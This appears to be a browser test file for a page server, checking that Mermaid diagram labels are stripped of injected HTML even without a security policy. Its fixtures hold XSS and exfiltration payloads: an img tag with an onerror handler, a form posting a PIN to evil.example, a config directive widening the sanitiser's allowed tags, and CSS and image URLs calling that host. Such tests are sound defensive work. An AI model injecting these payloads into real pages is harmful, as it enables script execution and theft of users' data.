import { describe, expect, it } from 'vitest'
import { withoutPolicy } from './page-server.ts'
import { pagesInBrowser } from './pages-in-browser.ts'

const PICTURE = "<img src='https://evil.example/a.png' onerror='alert(1)'>"
const FORM =
  "<form action='https://evil.example/'><input name='pin'><textarea></textarea><button>Send</button></form>"
const DOT = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='
const ALLOW_ALL = '%%{init: {"dompurifyConfig": {"ADD_TAGS": ["img", "form"]}, "secure": []}}%%\n'

/** Diagrams that would bring more than a drawing, and what is left of the HTML of their labels. */
const HOSTILE: readonly (readonly [name: string, code: string, labels: readonly string[]])[] = [
  ['a picture', `flowchart LR\n  A["a <b>bold</b> ${PICTURE}"]`, ['<p>a <b>bold</b> </p>']],
  ['a form', `flowchart LR\n  A["b ${FORM}"]`, ['<p>b Send</p>']],
  ['a configuration of its own', `${ALLOW_ALL}flowchart LR\n  A["c ${PICTURE}${FORM}"]`, ['<p>c Send</p>']],
  [
    'a style with a picture',
    `flowchart LR\n  A["<span style='background:url(https://evil.example/b.png)'>d</span>"]`,
    ['<p><span>d</span></p>'],
  ],
  ['a class diagram', `classDiagram\n  class A["e ${PICTURE}${FORM}"]`, ['<p>e Send</p>']],
  [
    'a picture of the document itself',
    `flowchart LR\n  A@{ img: "${DOT}", label: "f", h: 60 }`,
    ['<p>f</p>'],
  ],
]

const { browser, server, visit } = await pagesInBrowser()

describe.skipIf(browser === undefined)('[10.12.3] what a drawing holds, were there no policy', () => {
  it.each(HOSTILE)('[10.12.3] %s', async (_, code, labels) => {
    const visitor = await openDiagram(code)
    const { page } = visitor
    await page.locator('svg').first().waitFor()
    const html = await page.locator('.nodeLabel').evaluateAll((all) => all.map((one) => one.innerHTML))
    expect(html.filter((one) => one !== '')).toEqual(labels)
    const lost = page.locator('#drawing').locator('img, form, input, textarea, button, [style*="url("]')
    expect(await lost.count()).toBe(0)
    await visitor.close()
    expect([visitor.outside, visitor.complaints]).toEqual([[], []])
  })

  it('[10.12.3] a picture from elsewhere is not asked for, and the source stays', async () => {
    const visitor = await openDiagram('flowchart LR\n  A@{ img: "https://evil.example/c.png", label: "x" }')
    const { page } = visitor
    await page.evaluate(
      () =>
        new Promise((heard) => {
          addEventListener('message', ({ data }) => data.type === 'qp:diagram-failed' && heard(data))
          postMessage('qp:measure', '*')
        }),
    )
    expect(await page.locator('#drawing').innerHTML()).toBe('')
    await visitor.close()
    expect(visitor.outside).toEqual([])
  })
})

async function openDiagram(code: string) {
  const { id } = await server.publish({ blocks: [{ type: 'code', language: 'mermaid', code }] })
  const visitor = await visit()
  await visitor.page.route('**/diagrams/0', withoutPolicy)
  await visitor.goTo(`/${id}/diagrams/0`)
  return visitor
}
